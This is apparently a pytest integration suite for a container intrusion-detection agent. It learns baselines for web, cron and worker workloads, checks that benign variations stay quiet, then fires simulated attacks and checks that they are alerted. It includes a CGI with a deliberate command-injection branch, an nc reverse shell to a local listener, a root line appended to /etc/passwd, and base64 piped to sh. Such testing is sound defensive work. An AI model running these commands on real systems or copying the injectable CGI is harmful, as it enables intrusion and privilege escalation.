"""Scenario suite: three normal workloads learned by the real agent, benign variations that must
stay quiet, then attacks that must each raise the right alert within 10 s.

Workloads (each its own image, so its own baseline; busybox shell scripts):
- web: busybox httpd on the host's loopback (``--network host``, port from $PORT) with a CGI
  that writes a mktemp file per request, appends to an access log and rotates it every 20
  lines to ``access.log.<epoch>``. Requests come from this test process (host: not traced).
- cron: every second a job writes a timestamped report and prunes all but the newest three.
- worker: every 0.3 s sends a job to a backend at 127.0.0.1:$BACKEND_PORT and appends a log
  line; the backend is a busybox ``nc -ll`` in its own container.

Phases: learn (``--learn-for``) -> benign variations (faster rate, a second web replica, a
restart, rotations with new names, the backend stopped for 6 s) -> attacks on the web container.
Nothing is exec'd into a container in the benign phase: ``docker exec`` is itself new
behaviour (a process with no parent in the container), which a baseline rightly reports.

The module prints a recall / false-alert summary (README "Detection quality" quotes it).
"""

from __future__ import annotations

import contextlib
import re
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.agent_proc import AgentProcess
from tests.support.containers import run_container
from tests.support.images import workload_image
from tests.support.scenario import (
    ReverseShellListener,
    Traffic,
    baseline_modes,
    baselines,
    files_in,
    free_port,
    get,
    has_reason,
    image_id,
    reasons,
    wait_until,
)

pytestmark = pytest.mark.integration

LEARN_SECONDS = 32
# 1 s windows: the forest needs 20 learned windows, and each container's startup windows are
# not learned, so a short grace leaves enough of the learning time to it
STARTUP_GRACE = 4
MIN_FOREST_WINDOWS = 20
ALERT_DEADLINE = 10.0  # the "within 10 s"

WEB_START = """#!/bin/sh
mkdir -p /tmp /var/log/web
exec httpd -f -p 127.0.0.1:$PORT -h /www
"""
WEB_CGI = """#!/bin/sh
tmp=$(mktemp /tmp/req.XXXXXX)
echo "$QUERY_STRING" > "$tmp"
echo "$(date +%s) $QUERY_STRING" >> /var/log/web/access.log
if [ "$(wc -l < /var/log/web/access.log)" -ge 20 ]; then
    mv /var/log/web/access.log "/var/log/web/access.log.$(date +%s)"
fi
case "$QUERY_STRING" in
    debug=*) sh -c "${QUERY_STRING#debug=}" > /dev/null 2>&1 ;;  # the injectable bug
esac
echo "Content-Type: text/plain"
echo
cat "$tmp"
rm -f "$tmp"
"""
CRON_LOOP = """#!/bin/sh
while true; do /app/job.sh; sleep 1; done
"""
CRON_JOB = """#!/bin/sh
d=/data/reports
mkdir -p $d
date > /data/last-run
echo "report" > "$d/report-$(date +%Y%m%d%H%M%S).txt"
ls -t $d | tail -n +4 | while read -r f; do rm -f "$d/$f"; done
"""
WORKER_LOOP = """#!/bin/sh
mkdir -p /var/log
while true; do
    echo "job $(date +%s)" | nc -w1 127.0.0.1 $BACKEND_PORT > /dev/null 2>&1
    echo "$(date +%s) sent" >> /var/log/worker.log
    sleep 0.3
done
"""


@dataclass
class Attack:
    name: str
    run: Callable[[], None]
    expect: dict[str, Callable[[dict], bool]]  # what must be reported: name -> alert predicate
    latency: dict[str, float] | None = None


def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path, capsys):
    web_image = workload_image("web", {"/app/start.sh": (WEB_START, 0o755),
                                       "/www/cgi-bin/app": (WEB_CGI, 0o755)})
    cron_image = workload_image("cron", {"/app/cron.sh": (CRON_LOOP, 0o755),
                                         "/app/job.sh": (CRON_JOB, 0o755)})
    worker_image = workload_image("worker", {"/app/worker.sh": (WORKER_LOOP, 0o755)})
    web_port, web2_port, backend_port = free_port(), free_port(), free_port()
    state = tmp_path / "state"
    agent = AgentProcess(state, tmp_path / "alerts.jsonl",
                         ["--window", "1", "--learn-for", str(LEARN_SECONDS),
                          "--startup-grace", str(STARTUP_GRACE)])
    host = {"network": "host"}
    with contextlib.ExitStack() as stack:
        stack.enter_context(agent)
        backend = stack.enter_context(run_container(
            bb_image, ["nc", "-ll", "-p", str(backend_port), "-e", "/bin/cat"],
            name="backend", **host))
        web = stack.enter_context(run_container(
            web_image, ["/app/start.sh"], name="web", environment={"PORT": str(web_port)},
            **host))
        others = [
            stack.enter_context(run_container(cron_image, ["/app/cron.sh"], name="cron")),
            stack.enter_context(run_container(
                worker_image, ["/app/worker.sh"], name="worker",
                environment={"BACKEND_PORT": str(backend_port)}, **host)),
        ]
        wait_until(lambda: get(web_port, "ping") is not None, 15, "the web server")
        traffic = stack.enter_context(Traffic([web_port], interval=0.2))
        images = {web.container.attrs["Image"], image_id(cron_image),
                  image_id(worker_image), backend.container.attrs["Image"]}

        # -- learn --------------------------------------------------------------------------
        wait_until(lambda: all(baseline_modes(state).get(i) == "monitor" for i in images),
                   LEARN_SECONDS + 30, "every workload image to finish learning")
        # the benign phase must exercise the workloads' isolation forests, not only the sets
        workloads = images - {backend.container.attrs["Image"]}
        learned_windows = {b["image"]: b["windows"] for i, b in baselines(state).items()
                           if i in workloads}
        assert min(learned_windows.values()) >= MIN_FOREST_WINDOWS, learned_windows
        learned_at = len(agent.alerts())
        learning_alerts = [a for a in agent.alerts()[:learned_at]
                           if a["container"]["id"] in {backend.id, web.id, *(c.id for c in others)}]
        assert not learning_alerts, [reasons(a) for a in learning_alerts]

        # -- benign variations (each must raise nothing) --------------------------------------
        benign_started = time.time()
        traffic.interval = 0.05  # four times the learned request rate
        time.sleep(5)
        traffic.interval = 0.2
        web2 = stack.enter_context(run_container(
            web_image, ["/app/start.sh"], name="web-2", environment={"PORT": str(web2_port)},
            **host))
        wait_until(lambda: get(web2_port, "ping") is not None, 15, "the second replica")
        traffic.ports.append(web2_port)
        time.sleep(4)
        web.container.restart(timeout=2)
        wait_until(lambda: get(web_port, "ping") is not None, 15, "the restarted web server")
        time.sleep(3)
        backend.container.stop(timeout=1)  # the worker's connects are refused for a while
        time.sleep(6)
        backend.container.start()
        time.sleep(4)  # the last windows close and are scored
        rotated = [n for n in files_in(web, "/var/log/web") if "access.log." in n]
        assert len(rotated) >= 2, f"the web log was not rotated during the test: {rotated}"
        ours = {c.id for c in (backend, web, web2, *others)}  # other tests' containers aside
        # the windows were scored by forests fitted in a child: the agent never maps
        # scikit-learn or SciPy (about 118 MB)
        mapped = Path(f"/proc/{agent.proc.pid}/maps").read_text()
        assert "/sklearn/" not in mapped and "/scipy/" not in mapped
        # Known gap, counted and printed, not failed on: on a restart runc (comm "runc", or
        # "exe" when it re-executes itself) writes inside the container's cgroup; with a reused
        # pid of unknown parent the process table can think it already exec'd, so these
        # writes can look like the container's own (README "Known limits").
        runtime_noise = [a for a in agent.alerts()[learned_at:] if a["events"]
                         and a["events"][0]["process"]["comm"] in ("exe", "runc")
                         and a["events"][0]["process"]["ppid"] == 0]
        benign_alerts = [a for a in agent.alerts()[learned_at:] if a["container"]["id"] in ours
                         and a not in runtime_noise]
        false_benign = [(a["container"]["name"], a["kind"], reasons(a)) for a in benign_alerts]

        # -- attacks on the web container ---------------------------------------------------
        listener = ReverseShellListener()
        stack.callback(listener.close)
        new_port = free_port()
        cid = web.id
        # Checks look at every reason: an incident folds the alerts of one cause into one
        # alert (its reasons in arrival order, its first alert's process).
        attacks = [
            Attack("drop and execute a copied binary",
                   lambda: web.exec(["sh", "-c", "cp /bin/busybox /tmp/dropper; /tmp/dropper"]),
                   {"drift exec-added-binary": lambda a: a["kind"] == "drift"
                    and has_reason(a, "exec-added-binary", path="/tmp/dropper")}),
            Attack("reverse shell nc -e /bin/sh",
                   lambda: web.exec(["nc", "127.0.0.1", str(listener.port), "-e", "/bin/sh"]),
                   {"novel connect to the listener": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-connect", item=lambda s: f":{listener.port} " in s),
                    "novel nc -> shell lineage": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-lineage",
                                   item=lambda s: ":nc started" in s and s.endswith(":sh"))}),
            Attack("write below /etc",
                   lambda: web.exec(["sh", "-c", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"]),
                   {"novel write /etc/passwd, high": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-write", item=lambda s: "/etc/passwd" in s)
                    and a["severity"] == "high"}),
            Attack("write into /bin",
                   lambda: web.exec(["sh", "-c", "echo evil > /bin/evil"]),
                   {"drift write-binary-dir": lambda a: a["kind"] == "drift"
                    and has_reason(a, "write-binary-dir", path="/bin/evil")}),
            Attack("connect to a new port",
                   lambda: web.exec(["sh", "-c", f"nc -w1 127.0.0.1 {new_port} </dev/null"]),
                   {"novel connect": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-connect", item=lambda s: f":{new_port} " in s)}),
            Attack("shell spawned by the web server",
                   lambda: get(web_port, "debug=id"),
                   {"novel CGI -> shell lineage, high": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-lineage", item=lambda s: "/www/cgi-bin/app" in s
                                   and s.endswith(":sh"))
                    and a["severity"] == "high"}),
            Attack("chmod +x of a new file",
                   lambda: web.exec(["sh", "-c", "echo '#!/bin/sh' > /tmp/run.sh; "
                                     "chmod +x /tmp/run.sh"]),
                   {"drift chmod-x-new-file": lambda a: a["kind"] == "drift"
                    and has_reason(a, "chmod-x-new-file", path="/tmp/run.sh")}),
            Attack("decoded payload piped to sh",
                   lambda: web.exec(["sh", "-c", "echo aWQK | base64 -d | sh"]),
                   {"novel exec of base64": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-exec", item=lambda s: s.endswith(" as base64")),
                    "novel shell fed by the pipe": lambda a: a["kind"] == "novel"
                    and has_reason(a, "new-lineage", item=lambda s: s.endswith(
                        "busybox:sh started /bin/busybox:sh"))}),
        ]
        for attack in attacks:
            start_wall = time.time()
            attack.run()
            attack.latency = {}
            for what, predicate in attack.expect.items():
                try:
                    found = agent.wait_for_alerts(
                        lambda a, p=predicate, t=start_wall: a["container"]["id"] == cid
                        and a["last_seen"] >= t - 1 and p(a),
                        timeout=ALERT_DEADLINE, what=f"{attack.name}: {what}")
                except AssertionError:
                    continue
                attack.latency[what] = max(0.0, found[0]["last_seen"] - start_wall)
        # attacks must not have leaked alerts into the containers that were left alone
        bystanders = [a for a in agent.alerts()[learned_at:] if a["container"]["id"] in ours
                      and a["container"]["id"] != cid and a["time"] >= benign_started]
        false_bystander = [(a["container"]["name"], a["kind"], reasons(a)) for a in bystanders
                           if a not in benign_alerts]
        traffic_sent = traffic.sent
    del web2
    fitted = re.search(r"isolation forests fitted in child processes: (\d+) in (\d+) children, "
                       r"0 children and 0 fits failed", agent.log())
    # one per image whose windows were scored (kernel drops anywhere taint every window)
    assert fitted and int(fitted[1]) >= 1, agent.log()[-3000:]

    expected = sum(len(a.expect) for a in attacks)
    detected = sum(len(a.latency or {}) for a in attacks)
    missed = [f"{a.name}: {w}" for a in attacks for w in a.expect if w not in (a.latency or {})]
    with capsys.disabled():
        print(f"\nscenario suite: recall {detected}/{expected} expected alerts "
              f"({len([a for a in attacks if len(a.latency or {}) == len(a.expect)])}/"
              f"{len(attacks)} attacks fully detected), false alerts: "
              f"{len(false_benign)} in the benign phase, {len(false_bystander)} on bystanders; "
              f"{traffic_sent} requests served; {len(runtime_noise)} runtime writes set aside")
        for attack in attacks:
            lat = ", ".join(f"{w} {t:.2f} s" for w, t in (attack.latency or {}).items())
            print(f"  {attack.name}: {lat or 'MISSED'}")
        for name, kind, why in false_benign + false_bystander:
            print(f"  FALSE ALERT {name} {kind}: {why}")
    if missed or false_benign or false_bystander:  # keep the evidence for a failed run
        kept = Path(tempfile.gettempdir()) / "dw-scenario-alerts.jsonl"
        kept.write_text(agent.alerts_out.read_text())
        print(f"  all alerts kept in {kept}")
    assert not false_benign, false_benign
    assert not false_bystander, false_bystander
    assert not missed, f"missed: {missed}; alerts: {[reasons(a) for a in agent.alerts()]}"

